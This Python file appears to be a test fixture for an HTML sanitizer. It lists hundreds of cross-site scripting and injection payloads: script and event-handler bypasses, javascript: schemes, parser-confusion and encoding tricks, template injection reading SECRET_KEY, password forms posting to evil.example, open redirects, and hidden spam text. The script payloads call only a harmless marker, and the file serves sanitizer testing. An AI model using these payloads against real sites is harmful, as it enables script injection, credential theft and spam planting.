"""Attacks on a text, by class: what an editor's stolen password would be used to plant.

`HIT` stands for code that reports itself. Each payload is our own: a list of places times a list of tricks.
"""
# ruff: noqa: E501
from itertools import product

HIT = "top.hits.push(HIT)"  # HIT becomes the payload's number
J = f"javascript:{HIT}"


def _encoded(text, how):
    return "".join(how(character) for character in text)


SCRIPT = [
    f"<script>{HIT}</script>", f"<SCRIPT>{HIT}</SCRIPT>", f"<sCrIpT\t>{HIT}</sCrIpT\n>", f"<script/x>{HIT}</script/y>",
    f"<script\n>{HIT}</script>", f"<script type=module>{HIT}</script>", f"<script>{HIT}//", f"<p><script>{HIT}</script></p>",
    f"<table><script>{HIT}</script></table>", f"<ul><script>{HIT}</script></ul>", f"<script src=data:,{HIT}></script>",
    f"<script async>{HIT}</script>", f"<scr<script></script>ipt>{HIT}</script>", f"<<script>{HIT}</script>",
    f"<script x='>'>{HIT}</script>", f"<script x=\">\">{HIT}</script>", f"</p><script>{HIT}</script>",
    f"<script\x0c>{HIT}</script>", f"<script><!--\n{HIT}\n--></script>", f"<svg><script>{HIT}</script></svg>",
    f"<svg><script href=data:,{HIT} /></svg>", f"<math><mtext><script>{HIT}</script></mtext></math>",
    f"<!--><script>{HIT}</script>-->", f"<!---><script>{HIT}</script>-->", f"<!-- --!><script>{HIT}</script>-->",
    f"<![CDATA[><script>{HIT}</script>]]>", f"<?xml ><script>{HIT}</script>?>", f"<!x><script>{HIT}</script>",
]
_SELF_FIRING = [
    "<img src=x onerror={}>", "<img src=x onerror='{}'>", '<img src=x onerror="{}">', "<img/src=x/onerror={}>",
    "<img src=x\nonerror\n=\n{}>", "<IMG SRC=x ONERROR={}>", "<img src=x oNeRrOr={}>", "<image src=x onerror={}>",
    "<img src=x onerror=&#x74;{}>".replace("&#x74;", ""), "<svg onload={}>", "<svg/onload={}>", "<svg\tonload={}>",
    "<svg><g onload={}></g></svg>", "<body onload={}>", "<video src=x onerror={}></video>",
    "<video><source src=x onerror={}></video>", "<audio src=x onerror={}></audio>", "<object data=x onerror={}></object>",
    "<details open ontoggle={}>x</details>", "<input autofocus onfocus={}>", "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>", "<a tabindex=0 autofocus onfocus={}>x</a>", "<marquee onstart={}>x</marquee>",
    "<link rel=stylesheet href=x onerror={}>", "<style onload={}></style>", "<iframe onload={}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<embed src=x onload={}>", "<picture><img src=x onerror={}></picture>",
    "<figure><img src=x onerror={}></figure>", "<table background=x><td><img src=x onerror={}></table>",
    "<img src='/media/a.png' onerror={}>", "<img src='/media/a.png'onerror={}>", "<img src=x onerror\x0c={}>",
    "<p class=\"can-giua\"><img src=x onerror={}>", "<img alt='\"><img src=x onerror={}>' src=x onerror={}>",
]
SELF_FIRING = [place.replace("{}", HIT) for place in _SELF_FIRING]
HANDLERS = [
    f"<{tag} {event}={quote}{HIT}{quote} style=display:block>x</{tag}>"
    for (tag, quote), event in product(
        [("p", ""), ("a", '"'), ("h2", "'"), ("blockquote", ""), ("strong", '"'), ("figure", ""), ("x-y", "")],
        ["onclick", "onmouseover", "ONFOCUS", "onpointerenter", "onanimationstart", "oncopy", "onwheel"],
    )
]
_SCHEMES = [
    J, "JaVaScRiPt:" + HIT, " javascript:" + HIT, "\tjavascript:" + HIT, "\njavascript:" + HIT, "java\tscript:" + HIT,
    "java\nscript:" + HIT, "javascript\t:" + HIT, "\x01javascript:" + HIT, "\x1fjavascript:" + HIT, "javascript://%0a" + HIT,
    "javascript://x/%0d" + HIT, "javascript:/*x*/" + HIT, "javascript:void " + HIT,
    "&#106;avascript:" + HIT, "&#x6A;avascript:" + HIT, "&#0000106avascript:" + HIT, "javascript&colon;" + HIT,
    "java&Tab;script:" + HIT, "java&NewLine;script:" + HIT, "javascript&#58;" + HIT, "javascript&#x3a " + HIT,
    "&Tab;javascript:" + HIT, _encoded("javascript", lambda c: f"&#{ord(c)};") + ":" + HIT,
    _encoded("javascript:", lambda c: f"&#x{ord(c):x};") + HIT, "data:text/html,<script>" + HIT + "</script>",
    "data:text/html;base64,PHNjcmlwdD4x", "DATA:text/html,x", "data:image/svg+xml,<svg onload=" + HIT + ">",
    "vbscript:" + HIT, "livescript:" + HIT, "mocha:" + HIT, "view-source:x", "file:///etc/passwd", "blob:x", "about:blank",
    "feed:javascript:" + HIT, "jar:http://x!/", "filesystem:x", "intent://x#Intent;end", "ms-word:ofe|u|http://x", "ftp://x/",
    "ws://x/", "chrome://x", "res://x", "x:javascript:" + HIT, "java\0script:" + HIT, "javascript\u200b:" + HIT,
    "\u200bjavascript:" + HIT, "\ufeffjavascript:" + HIT, "\u00a0javascript:" + HIT, "ｊavascript:" + HIT,
]
SCHEMES = [f'<a href="{address}">bấm vào đây</a>' for address in _SCHEMES]
SCHEMES += [f"<a href={J}>x y</a>", f"<a href='{J}'>xy</a>", f"<A HREF={J} >xy</A>", f"<a\nhref\n=\n{J}>xy</a>",
            f"<a/href={J}>xy</a>", f"<a href=/ok href={J}>xy</a>", f"<a href={J} href=/ok>xy</a>"]  # fmt: skip
_ATTRIBUTES = ["xlink:href", "action", "formaction", "src", "srcset", "srcdoc", "data", "poster", "background", "cite",
               "longdesc", "usemap", "manifest", "ping", "dynsrc", "lowsrc", "profile", "codebase", "classid"]  # fmt: skip
OTHER_ADDRESSES = [f'<{tag} {name}="{J}">x</{tag}>' for tag, name in zip(
    ["a", "form", "button", "iframe", "img", "iframe", "object", "video", "table", "blockquote", "img", "img", "html",
     "a", "img", "img", "head", "object", "object"], _ATTRIBUTES, strict=True)]  # fmt: skip
OTHER_ADDRESSES += [
    f"<form action={J}><input type=submit></form>", f"<form><button formaction={J}>x</button></form>",
    f"<iframe src={J}></iframe>", f"<embed src={J}>", f"<object data={J}></object>", f"<base href={J}//>",
    f'<meta http-equiv=refresh content="0;url={J}">', "<meta charset=utf-7>", "<link rel=import href=x>",
    f"<isindex action={J}>", f"<svg><a xlink:href={J}><text y=20>x</text></a></svg>",
    f"<svg><a href={J}><circle r=99 /></a></svg>", f"<math href={J}>x</math>", f"<math><mi xlink:href={J}>x</mi></math>",
    f"<svg><animate attributeName=href values={J} /></svg>", "<svg><use href=data:image/svg+xml,x /></svg>",
    f"<svg><set attributeName=onmouseover to={HIT} /></svg>", "<portal src=//x></portal>", "<frameset><frame src=//x>",
    f"<applet code={J}></applet>", f"<map name=m><area href={J} shape=default></map>",
]
FOREIGN = [  # where an HTML parser changes its rules, and a text that was safe is read another way the second time
    f"<math><mi><style><img src=x onerror={HIT}></style></mi></math>",
    f"<svg><style><img src=x onerror={HIT}></style></svg>", f"<svg></p><style><a id='</style><img src=x onerror={HIT}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={HIT}>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={HIT}&gt;'>",
    f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>", f"<title><a title='</title><img src=x onerror={HIT}>'>",
    f"<textarea><a title='</textarea><img src=x onerror={HIT}>'>", f"<xmp><p title='</xmp><img src=x onerror={HIT}>'>",
    f"<noembed><p title='</noembed><img src=x onerror={HIT}>'>", f"<iframe><p title='</iframe><img src=x onerror={HIT}>'>",
    f"<noframes><p title='</noframes><img src=x onerror={HIT}>'>", f"<style><p title='</style><img src=x onerror={HIT}>'>",
    f"<template><img src=x onerror={HIT}></template>", f"<template><script>{HIT}</script></template>",
    f"<select><option><img src=x onerror={HIT}></select>", f"<select><style></select><img src=x onerror={HIT}></style>",
    f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>", f"<svg><desc><img src=x onerror={HIT}></desc>",
    f"<svg><title><img src=x onerror={HIT}></title>", f"<math><annotation-xml encoding=text/html><img src=x onerror={HIT}>",
    f"<table><tr><td><table><form><img src=x onerror={HIT}>", f"<table><img src=x onerror={HIT}>", f"<b><table><i><img src=x onerror={HIT}>",
    f"<p><svg><p><img src=x onerror={HIT}>", f"<a><svg><a><img src=x onerror={HIT}>", f"<plaintext><img src=x onerror={HIT}>",
    f"<listing>&lt;img onerror={HIT}&gt;</listing>", f"<!--<img src='--><img src=x onerror={HIT}>'>", f"<![endif]--><img src=x onerror={HIT}>",
    f"<!--[if gte IE 4]><img src=x onerror={HIT}><![endif]-->", f"<comment><img src='</comment><img src=x onerror={HIT}>'>",
    f"<p =\"><img src=x onerror={HIT}>\">", f"<p x='`\"><img src=x onerror={HIT}>'>", f"<p \"=\"><img src=x onerror={HIT}>",
    f"<img src=\"x` `<script>{HIT}</script>\"` `>", f"<a href='/x' title='\"><img src=x onerror={HIT}>'>xy</a>",
    f"<a title='&quot;&gt;&lt;img src=x onerror={HIT}&gt;' href=/x>xy</a>", f"<img alt='&lt;script&gt;{HIT}&lt;/script&gt;' src=/media/a.png>",
    f"&lt;script&gt;{HIT}&lt;/script&gt;", f"&amp;lt;img src=x onerror={HIT}&amp;gt;", f"<p>&lt;img src=x onerror={HIT}&gt;</p>",
    f"<figcaption></figure><img src=x onerror={HIT}>", f"<h2>&lt;svg onload={HIT}&gt;</h2>", f"<abbr title='\"><svg onload={HIT}>'>UBND</abbr>",
    f"<caption><img src=x onerror={HIT}>\"</caption>", f"<table><caption>\"&gt;<b onclick={HIT}>x</b></caption><td>y</table>",
]  # fmt: skip
STYLES = [
    f"<p style='width:expression({HIT})'>x</p>", f"<p style='background:url({J})'>x</p>", f"<p style='behavior:url(x)'>{'x'}</p>",
    f"<p style='-moz-binding:url({J})'>x</p>", f"<style>@import '{J}';</style>", f"<style>p{{background:url({J})}}</style>",
    f"<link rel=stylesheet href='{J}'>", f"<p style='list-style:url({J})'>x</p>", "<style>a{position:fixed;inset:0}</style>",
    "<a href=/x style='position:fixed;inset:0'>phủ cả trang</a>", f"<p style=\"x:\\65xpression({HIT})\">x</p>",
    "<div class='site-header' id='main'>x</div>", "<p class='unseen can-giua'>x</p>", "<style>/*</style>*/",
    f"<font style='x' color='{J}'>x</font>", f"<table style='background:url(\"{J}\")'><td>x</table>",
]
ENCODED = [
    f"<scr\0ipt>{HIT}</scr\0ipt>", f"<img src=x on\0error={HIT}>", f"<\0script>{HIT}</script>", f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
    f"\ufeff<script>{HIT}</script>", f"<ſcript>{HIT}</ſcript>", f"<img src=x onerror={HIT}\u2028>", f"＜script＞{HIT}＜/script＞",
    f"<s\u200bcript>{HIT}</s\u200bcript>", f"<img src=x on\u200berror={HIT}>", f"%3Cscript%3E{HIT}%3C/script%3E",
    f"\\x3cscript\\x3e{HIT}", f"&#60;script&#62;{HIT}&#60;/script&#62;", f"&#x3C;img src=x onerror={HIT}&#x3E;",
    f"<img src=x one\u0301rror={HIT}>", f"<\u0130mg src=x onerror={HIT}>", f"<script\u00a0>{HIT}</script>", f"\u202e<script>{HIT}</script>",
]  # fmt: skip
CLOBBERING = [f"<{tag} {name}={value}>x</{tag}>" for tag, name, value in product(
    ["a", "form", "img"], ["id", "name"], ["hits", "document", "cookie", "noi-dung"])]  # fmt: skip
TEMPLATES = ["{{ 7*7 }}", "{% load static %}", "{{ settings.SECRET_KEY }}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor.constructor('x')()}}"]
PHISHING = [
    "<form action=https://evil.example><input type=password name=p><button>Đăng nhập</button></form>",
    "<input type=password>", "<button onclick=x>Đăng nhập</button>", "<textarea name=csrfmiddlewaretoken></textarea>",
    "<iframe src=https://evil.example></iframe>", "<object data=https://evil.example></object>", "<embed src=https://evil.example>",
    "<img src=https://evil.example/x.gif>", "<img src=//evil.example/x.gif>", "<img srcset='https://evil.example/x 1x'>",
    "<video poster=https://evil.example/x></video>", "<audio src=https://evil.example/x autoplay></audio>",
    "<link rel=prefetch href=https://evil.example>", "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>", "<dialog open>Đăng nhập lại</dialog>",
    "<iframe src=https://www.youtube.com.evil.example/embed/dQw4w9WgXcQ></iframe>",
    "<figure class=video><a href=https://evil.example/watch?v=dQw4w9WgXcQ>https://youtu.be/dQw4w9WgXcQ</a></figure>",
]
_ADDRESSES = [
    "//evil.example", "///evil.example", "////evil.example", "/\\evil.example", "\\\\evil.example", "\\/evil.example", "/\t/evil.example",
    "/\n/evil.example", "\t//evil.example", "https:evil.example", "https:/evil.example", "https:\\\\evil.example", "http:///evil.example",
    "https://thainguyen.gov.vn@evil.example", "https://u:p@evil.example/", "https://thainguyen.gov.vn%40evil.example",
    "https://thainguyen.gov.vn\\@evil.example", "https://evil.example:99999/", "https://evil.example:x/", "https://", "https://.", "https://%65vil.example",
    "https://[::1", "https://evil..example", "https://-evil.example", "https://evil.example\u3002com\\x", "/media/..\\..\\x", "mailto:", "mailto:a b@c",
    "tel:<script>", "?x=1", "x/y", "", " ", "https://evil\u200b.example /x", "/\u2028/evil.example", "&#47;&#47;evil.example", "&sol;&sol;evil.example",
]  # fmt: skip
ADDRESSES = [f'<a href="{address}">bấm vào đây</a>' for address in _ADDRESSES]
_HIDING = [
    "display:none", "DISPLAY : NONE !important", "visibility:hidden", "font-size:0", "font-size:1px", "font-size:0.01em", "font:0/0 a",
    "opacity:0", "opacity:.01", "position:absolute;left:-9999px", "position:fixed;top:-5000px", "text-indent:-9999px", "margin-left:-3000px",
    "height:0;overflow:hidden", "width:1px;height:1px;overflow:hidden", "clip:rect(0,0,0,0)", "clip-path:inset(100%)", "transform:scale(0)",
    "transform:translateX(-9999px)", "color:#fff", "color:white", "color:#fefefe", "color:rgb(255,255,255)", "color:rgba(0,0,0,0)",
    "color:transparent", "color:#eee;background:#eee", "color:hsl(0,0%,100%)", "mso-hide:all", "filter:opacity(0)", "max-height:0;overflow:hidden",
    "-webkit-text-fill-color:transparent", "content-visibility:hidden",
]  # fmt: skip
SECRET = "nhà cái uy tín"  # what nobody is meant to see  # noqa: S105
HIDDEN = [f'<p>Tin. <span style="{style}">{SECRET}</span></p>' for style in _HIDING]
HIDDEN += [f"<p>Tin.</p><div hidden>{SECRET}</div>", f"<p>Tin. <font color=white>{SECRET}</font></p>", f"<p>Tin.</p><template>{SECRET}</template>",
           f"<p>Tin.</p><noscript>{SECRET}</noscript>", f"<p>Tin.</p><!-- {SECRET} -->", f"<p>Tin.</p><title>{SECRET}</title>",
           f"<p>Tin.</p><textarea>{SECRET}</textarea>", f"<p>Tin.</p><select><option>{SECRET}</select>", f"<div style='display:none'><p>{SECRET}</p></div>Tin.",
           f"<div style='font-size:0'><p>{SECRET}</p></div>Tin.", f"<p>Tin.</p><table><tr hidden><td>{SECRET}</table>", f"<p>Tin.</p><table><tr><td hidden>{SECRET}</table>",
           f"<p>Tin.</p><table style='display:none'><tr><td>{SECRET}</table>", f"<p>Tin.</p><ul><li style='display:none'>{SECRET}</ul>",
           f"<p style='color:white'>{SECRET} <span style='color:black'>Tin.</span></p>", f"<datalist><option>{SECRET}</datalist>Tin."]  # fmt: skip

CLASSES = {
    "script": SCRIPT, "self-firing": SELF_FIRING, "handlers": HANDLERS, "schemes": SCHEMES, "other addresses": OTHER_ADDRESSES,
    "foreign content": FOREIGN, "styles": STYLES, "encodings": ENCODED, "clobbering": CLOBBERING, "templates": TEMPLATES,
    "phishing": PHISHING, "addresses": ADDRESSES, "hidden": HIDDEN,
}  # fmt: skip
PAYLOADS = [
    (kind, payload.replace("push(HIT)", f"push({number})"))
    for number, (kind, payload) in enumerate((kind, payload) for kind, some in CLASSES.items() for payload in some)
]
